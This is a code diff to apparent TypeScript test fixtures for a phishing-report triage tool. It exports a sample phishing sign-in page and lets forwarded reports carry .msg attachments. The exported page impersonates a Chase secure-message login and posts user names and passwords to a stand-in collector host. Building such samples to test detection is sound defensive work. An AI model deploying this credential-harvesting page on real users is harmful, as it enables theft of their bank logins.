@@ -7,7 +7,7 @@ function compose(options: ConstructorParameters<typeof MailComposer>[0]): Promis
 }
 
 /** The sign-in page an HTML attachment phish opens: a local form posting to the collector. */
-const LOGIN_PAGE = `<!doctype html><html><head><title>Secure Message</title></head><body>
+export const LOGIN_PAGE = `<!doctype html><html><head><title>Secure Message</title></head><body>
 <h1>Chase secure document</h1><p>Sign in to view your statement.</p>
 <form method="post" action="https://statement-viewer.example-docs.top/collect.php">
 <input name="user"><input type="password" name="pass"><button>View</button></form></body></html>`;
@@ -67,9 +67,14 @@ export function bankNewsletter(): Promise<Buffer> {
 
 /**
  * What a report-phishing button or a user sends to the security team: a short note with the
- * suspect message attached as `message/rfc822` (or shown inline, as some clients forward).
+ * suspect message attached as `message/rfc822` (or shown inline, as some clients forward), or
+ * as Outlook attaches it: the `.msg` file.
  */
-export async function forwardedReport(suspect: Buffer, disposition: 'attachment' | 'inline' = 'attachment'): Promise<Buffer> {
+export async function forwardedReport(
+  suspect: Buffer,
+  disposition: 'attachment' | 'inline' = 'attachment',
+  file = { filename: 'suspicious.eml', contentType: 'message/rfc822' },
+): Promise<Buffer> {
   return compose({
     from: '"Dana Miller" <dana.miller@riskscan.local>',
     to: 'phishing-reports@riskscan.local',
@@ -77,7 +82,7 @@ export async function forwardedReport(suspect: Buffer, disposition: 'attachment'
     date: new Date('2026-11-20T09:02:00Z'),
     headers: { 'Authentication-Results': 'mx.riskscan.local; spf=pass smtp.mailfrom=riskscan.local; dkim=pass; dmarc=pass' },
     text: 'Hi team, this looks odd to me. Reported with the Report Phishing button.',
-    attachments: [{ filename: 'suspicious.eml', content: suspect, contentType: 'message/rfc822', contentDisposition: disposition }],
+    attachments: [{ ...file, content: suspect, contentDisposition: disposition }],
   });
 }
 
